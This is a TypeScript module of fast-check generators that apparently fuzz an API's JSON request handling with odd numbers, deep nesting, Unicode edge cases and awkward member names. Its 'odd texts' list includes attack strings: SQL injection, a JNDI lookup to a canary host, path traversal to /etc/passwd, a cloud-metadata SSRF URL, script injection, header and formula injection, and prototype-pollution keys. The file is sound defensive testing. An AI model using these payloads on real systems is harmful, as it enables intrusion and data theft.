import fc from 'fast-check';
import { unicodeText } from '../../../support/generators/unicode-text.ts';
import { canary } from './request-case.ts';

/** Marks text that is written into JSON without quotes, which `JSON.stringify` would not do. */
const literal = (text: string): string => `@@${text}@@`;

/** Answers JSON with its literals filled in. */
export const jsonText = (value: unknown): string =>
  (JSON.stringify(value) ?? 'null').replace(/"@@(.*?)@@"/g, (_, text: string) => JSON.parse(`"${text}"`));

const nested = (depth: number, open: string, close: string): string =>
  literal(`${open.repeat(depth)}${close.repeat(depth)}`);

const literals = [
  '1e400',
  '-1e400',
  '-0',
  '9007199254740993',
  '1e-999',
  '0.1e1',
  '123456789012345678901234567890',
  'NaN',
  'Infinity',
  'undefined',
  '01',
  '+1',
  '.5',
  '0x10',
  "'x'",
  '/* x */1',
  '',
].map(literal);

const escapes = ['\\\\ud800', '\\\\udc00x', '\\\\u0000', '\\\\ud83d\\\\ude00', '\\\\u202e', '\\\\x41', '\\\\u00'].map(
  (text) => literal(`\\"${text}\\"`),
);

const longText = 'x'.repeat(3000);

/** Texts that some component between a client and a database has misinterpreted before. */
const oddTexts: readonly string[] = [
  '',
  ' ',
  canary,
  `${canary} \u202e\u2066 right to left`,
  '\u0000',
  `a\u0000${canary}`,
  '\r\nSet-Cookie: a=b',
  '\u2028\u2029',
  '\ufeff',
  '\ufffe\uffff',
  'e\u0301'.repeat(50),
  '\u{1f600}'.repeat(40),
  'İ'.repeat(20),
  '" || id != "" || "',
  "' OR 1=1 --",
  `{{${canary}}}`,
  `$\{jndi:ldap://${canary}.example/a}`,
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data/',
  `https://${canary}.example@localhost/`,
  '<script>alert(1)</script>',
  '=cmd|x',
  '%s%n%x',
  '__proto__',
  'constructor',
  '2026-02-29',
  '2026-02-30T00:00:00Z',
  '0000-01-01',
  '9999-12-31T23:59:60Z',
  '9999-12-31T23:00:00-14:00',
  'null',
  'true',
  '-1',
  '1e9',
  '9'.repeat(400),
  longText,
  `${canary}${longText}`,
];

const numbers = [0, -0, -1, 1.5, 1e308, 2 ** 31, 2 ** 53, Number.MIN_VALUE];
const shapes: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  [null],
  { '': '' },
  { toString: canary },
  { length: 1e9 },
  Object.fromEntries([['then', canary]]),
  { toJSON: canary },
  { constructor: { prototype: { admin: true } } },
  Array.from({ length: 2000 }, () => canary),
  Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${i}`, i])),
  nested(15, '[', ']'),
  nested(17, '[', ']'),
  nested(20_000, '[', ']'),
  literal(`${'{\\"a\\":'.repeat(200)}1${'}'.repeat(200)}`),
];

/** A text: one that is known to cause trouble, or any. */
export const text: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...oddTexts), unicodeText({ maxLength: 60 }));

/** Any value that JSON allows, and some that it does not allow. */
export const value: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: text },
  { weight: 2, arbitrary: fc.constantFrom(...shapes) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(...literals, ...escapes, ...numbers) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Names of members: those that every object inherits, and those that other routes know. */
export const memberName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'then',
    '',
    '0',
    '\u0000',
    longText,
  ),
  fc.constantFrom('id', 'status', 'version', 'partner_id', 'team_id', 'scope', 'scopes', 'sandbox', 'policy', 'object'),
  fc.constantFrom(
    'claimed',
    'consent',
    'device',
    'language',
    'metadata',
    'reference',
    'expected_version',
    'profile_id',
  ),
  fc.string({ maxLength: 12 }),
);

/** Texts that are encoded for a URL, so that they have no special meaning in it. */
export const encoded: fc.Arbitrary<string> = text.map((raw) => encodeURIComponent(raw.toWellFormed()));
